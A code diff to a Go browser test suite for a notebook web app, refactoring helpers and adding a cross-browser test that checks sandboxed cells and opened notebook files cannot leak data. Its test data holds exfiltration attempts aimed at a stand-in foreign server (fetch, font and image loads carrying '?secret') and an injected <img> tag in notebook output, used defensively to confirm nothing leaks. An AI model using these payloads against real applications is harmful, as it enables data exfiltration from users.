@@ -61,11 +61,9 @@ func (l listening) Accept() (net.Conn, error) {
 	return c, err
 }
 
-// watched opens Chromium with two servers, the site and another with the address other. Both record forbidden
-// traffic.
-func watched(t *testing.T) (ctx context.Context, site, other string, e *ear) {
+// servers starts two servers, the site and another with the address other. Both record forbidden traffic.
+func servers(t *testing.T) (site, other string, e *ear) {
 	t.Helper()
-	installed(t, "chrome")
 	e = &ear{}
 	files := http.FileServer(http.Dir(built))
 	own := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
@@ -83,10 +81,18 @@ func watched(t *testing.T) (ctx context.Context, site, other string, e *ear) {
 	foreign.Listener = listening{foreign.Listener, e}
 	foreign.Start()
 	t.Cleanup(foreign.Close)
+	return own.URL, foreign.URL, e
+}
+
+// watched opens Chromium with the two servers.
+func watched(t *testing.T) (ctx context.Context, site, other string, e *ear) {
+	t.Helper()
+	installed(t, "chrome")
+	site, other, e = servers(t)
 	ctx, cancel := browser.Start(t.Context())
 	t.Cleanup(cancel)
 	must.OK(t, chromedp.Do(ctx, chromedp.EmulateViewport(1280, 900)))
-	return ctx, own.URL, foreign.URL, e
+	return ctx, site, other, e
 }
 
 // value evaluates an expression in the page and awaits it if it is a promise.
@@ -204,6 +210,8 @@ get := func(url string) string {
 blob := func(text string) string {
 	return self.Get("URL").Call("createObjectURL", self.Get("Blob").New([]any{text}, map[string]any{"type": "text/javascript"})).String()
 }
+// whose exception can be recovered from
+property := func(name string) js.Value { return self.Get("Reflect").Call("get", self, name) }
 try("http.Get", func() string { return get("OTHER/get?secret") })
 try("http.Get of ours", func() string { return get("OWN/table/index.html?secret") })
 try("fetch without cors", func() string { return settled(self.Call("fetch", "OTHER/opaque?secret", map[string]any{"mode": "no-cors"})) })
@@ -226,8 +234,8 @@ try("nested worker", func() string {
 })
 try("font", func() string { return settled(self.Get("FontFace").New("x", "url(OTHER/font?secret)").Call("load")) })
 try("IndexedDB", func() string { return settled(self.Get("indexedDB").Call("open", "mpcvm-notebooks"), "onsuccess") })
-try("caches", func() string { return settled(self.Get("caches").Call("open", "mpcvm")) })
-try("cache of the site", func() string { return settled(self.Get("caches").Call("delete", "mpcvm-2")) })
+try("caches", func() string { return settled(property("caches").Call("open", "mpcvm")) })
+try("cache of the site", func() string { return settled(property("caches").Call("delete", "mpcvm-2")) })
 try("locks", func() string { return settled(self.Get("navigator").Get("locks").Call("query")) })
 try("files", func() string { return settled(self.Get("navigator").Get("storage").Call("getDirectory")) })
 self.Get("BroadcastChannel").New("mpcvm-notebooks").Call("postMessage", "KEY")
@@ -315,10 +323,9 @@ func withCharts(site, other string) string {
 	return out
 }
 
-// TestOutputIsHarmless shows the hostile output, from a program and from an opened file.
-func TestOutputIsHarmless(t *testing.T) {
-	ctx, site, other, e := watched(t)
-	out := withCharts(site, other)
+// hostileNotebook is a file with the output out and a text.
+func hostileNotebook(t *testing.T, out, other string) []byte {
+	t.Helper()
 	file, err := json.Marshal(map[string]any{"cells": []any{map[string]any{"id": "x", "cell_type": "code",
 		"source": "println(1)", "metadata": map[string]any{},
 		"outputs": []any{map[string]any{"output_type": "display_data", "metadata": map[string]any{},
@@ -327,6 +334,14 @@ func TestOutputIsHarmless(t *testing.T) {
 			"/text?secret) <img src=" + other + "/html?secret>"}},
 		"metadata": map[string]any{}, "nbformat": 4, "nbformat_minor": 5})
 	must.OK(t, err)
+	return file
+}
+
+// TestOutputIsHarmless shows the hostile output, from a program and from an opened file.
+func TestOutputIsHarmless(t *testing.T) {
+	ctx, site, other, e := watched(t)
+	out := withCharts(site, other)
+	file := hostileNotebook(t, out, other)
 	for _, way := range []struct {
 		name string
 		show func()
@@ -400,7 +415,7 @@ func TestOutputIsHarmless(t *testing.T) {
 		}
 	}
 	// A browser without the sanitizer shows outputs in frames without scripts.
-	_, err = chromedp.Call(ctx, protocol.AddScriptToEvaluateOnNewDocument,
+	_, err := chromedp.Call(ctx, protocol.AddScriptToEvaluateOnNewDocument,
 		protocol.AddScriptToEvaluateOnNewDocumentParams{Source: "delete Element.prototype.setHTML"})
 	must.OK(t, err)
 	e.fresh()
@@ -517,5 +532,38 @@ func TestOpened(t *testing.T) {
 	comes(ctx, t, pageReady)
 	if got := value[int](ctx, t, `mpcvmNotebook.kernel.files().length`); got != 0 {
 		t.Errorf("%d files after their removal", got)
+	}
+}
+
+// TestElsewhere repeats the attacks of a cell and of an opened file, and the first minute of “Your table”,
+// in Firefox if MPCVM_FIREFOX is set, and otherwise in Chromium.
+func TestElsewhere(t *testing.T) {
+	name := "chrome"
+	if os.Getenv("MPCVM_FIREFOX") != "" {
+		name = "firefox"
+	}
+	site, other, e := servers(t)
+	jobs := filepath.Join(t.TempDir(), "jobs.json")
+	text := must.Get(json.Marshal(map[string]string{
+		"cell":     strings.NewReplacer("OTHER", other, "OWN", site).Replace(leaks),
+		"notebook": string(hostileNotebook(t, withCharts(site, other), other)),
+		"table":    contentOf(t, "data/iris.csv"),
+	}))(t)
+	must.OK(t, os.WriteFile(jobs, text, 0o600))
+	out, err := script(t, "attacks.mjs", name, site, jobs).Output()
+	must.OK(t, err)
+	t.Logf("%s", out)
+	var seen struct {
+		Cell, Over, At, Outside, Headline, Shared, Sent string
+		Faults                                          []string
+	}
+	must.OK(t, json.Unmarshal(out, &seen))
+	if heard := e.fresh(); len(heard) > 0 {
+		t.Errorf("a server heard %q", heard)
+	}
+	if len(seen.Faults) > 0 || seen.Cell != "ok\ndone <nil>\n" || seen.Over+seen.Outside != "" ||
+		seen.At != "/notebooks/new.html" || !strings.HasPrefix(seen.Headline, "Right in ") ||
+		seen.Shared != seen.Headline || !strings.HasPrefix(seen.Sent, "0 bytes sent ") {
+		t.Errorf("%+v", seen)
 	}
 }
